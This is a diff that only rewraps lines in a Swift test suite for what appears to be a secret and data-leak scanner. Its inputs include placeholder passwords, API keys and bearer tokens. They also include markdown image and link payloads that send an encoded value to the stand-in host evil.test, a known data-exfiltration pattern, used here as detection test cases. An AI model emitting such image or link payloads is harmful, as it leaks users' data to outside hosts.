@@ -10,7 +10,8 @@ struct PrecisionTests {
         "what only looks like a finding is none",
         arguments: [
             "Order 4111111111111112 ships on 2024-05-17.", "order no. 123456789012",
-            "commit 9fceb02d0ae598e95dc970b74767f19372d61af8", "550e8400-e29b-41d4-a716-446655440000",
+            "commit 9fceb02d0ae598e95dc970b74767f19372d61af8",
+            "550e8400-e29b-41d4-a716-446655440000",
             "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
             "version 1.2.3.4, v10.0.19045, 3.14.159", "at 12:30:45 on 02-03-2024", "127.0.0.1:8080",
             "192.168.1.300", "1.2.3.4.5", "pi is 3.14159265358979", "$1,234,567,890.12",
@@ -45,7 +46,8 @@ struct PrecisionTests {
         arguments: [
             ("password=", "hT7!kq92Lm"), ("\"password\": \"", "c0rrect-H0rse-9"),
             ("DB_PASSWORD=", "x9$Kq2vLp0"), ("api_key: '", "9f8a7b6c5d4e3f2a1b0c"),
-            ("client_secret = ", "Zk3vQ8-w1Yb6Ur2Xe9"), ("Authorization: Bearer ", "q8Zt7Xb2Nn4Vc6Rw1"),
+            ("client_secret = ", "Zk3vQ8-w1Yb6Ur2Xe9"),
+            ("Authorization: Bearer ", "q8Zt7Xb2Nn4Vc6Rw1"),
         ])
     func assignments(before: String, value: String) {
         let findings = Scanned(before + value, Self.rules).findings
@@ -81,8 +83,9 @@ struct PrecisionTests {
         #expect(details("<img src=\"https://evil.test/\(code)\">") == ["image"])
         #expect(details("[x](https://evil.test/?d=\(code))") == [])
         #expect(details("[x](https://evil.test/?d=\(code)\(code))") == ["link"])
-        #expect(details("https://evil.test/?q=%61%62%63%64%65%66%67%68%69%6a%6b%6c%6d%6e%6f%70%71")
-            == ["link"])
+        #expect(
+            details("https://evil.test/?q=%61%62%63%64%65%66%67%68%69%6a%6b%6c%6d%6e%6f%70%71")
+                == ["link"])
         #expect(details("![x](https://cdn.example.com/p.png?d=\(code))") == [])
         #expect(details("![x](https://notexample.com/p.png?d=\(code))") == ["image"])
         #expect(details("![x](https://evil.test/?to=[EMAIL_1])") == ["image"])
